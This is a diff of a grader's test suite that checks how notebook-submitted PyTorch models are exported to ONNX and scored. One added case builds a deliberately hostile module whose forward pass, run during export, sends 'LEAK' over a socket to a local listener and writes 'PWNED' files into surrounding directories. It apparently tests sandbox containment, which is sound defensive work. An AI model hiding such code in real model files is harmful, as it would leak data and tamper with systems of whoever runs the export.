@@ -534,10 +534,47 @@ def model_in_train_mode_with_hooks(ctx):
 
 @case("ok", 3, says=("model 'model' not exported", "Linear"))
 def not_exportable(ctx):
-    """`model` is a plain `nn.Linear` with no config: cannot be exported; the metric
-    question gets 0 with a message, the rest is graded."""
+    """`model` is a plain `nn.Linear(30, 2)`: it cannot take the task's (batch, 30, 1)
+    windows, so the ONNX export fails; the metric question gets 0 with the reason, the
+    rest is graded."""
     return nb("notexportable", "answer = 42\nratio = 0.25",
               "import torch\nmodel = torch.nn.Linear(30, 2)")
+
+
+@case("ok", 3, model=True)
+def sequential_mlp(ctx):
+    """The honest MLP's layers in a plain `nn.Sequential` (no build_model config): exported
+    as ONNX in the kernel, measured by the grader with onnxruntime: the honest accuracy."""
+    return nb("sequentialmlp", "answer = 42\nratio = 0.25", HONEST_MODEL,
+              "model = torch.nn.Sequential(*model.net)")
+
+
+@case("ok", 3, model=True)
+def hostile_forward(ctx):
+    """A hand-written module whose forward, run by the ONNX export in the kernel, connects
+    to the test's listener and writes into the lab, the uploads, the output and the
+    repository: it runs inside the sandbox only (nothing reaches them), and the model is
+    measured as the honest one it wraps."""
+    targets = [str(t) for t in (ctx.lab, ctx.subs, ctx.out, ctx.repo, ctx.lab.parent)]
+    return nb("hostileforward", "answer = 42\nratio = 0.25", HONEST_MODEL, f"""
+        import os, socket
+        class Sneaky(torch.nn.Module):
+            def __init__(self, net):
+                super().__init__()
+                self.net = net
+            def forward(self, x):
+                try:
+                    socket.create_connection(("127.0.0.1", {ctx.port}), timeout=1).sendall(b"LEAK")
+                except OSError:
+                    pass
+                for d in {targets!r}:
+                    try:
+                        with open(os.path.join(d, "PWNED-by-writeoutside"), "w") as f:
+                            f.write("pwned at export")
+                    except OSError:
+                        pass
+                return self.net(x)
+        model = Sneaky(model.net)""")
 
 
 @case("ok", 3)
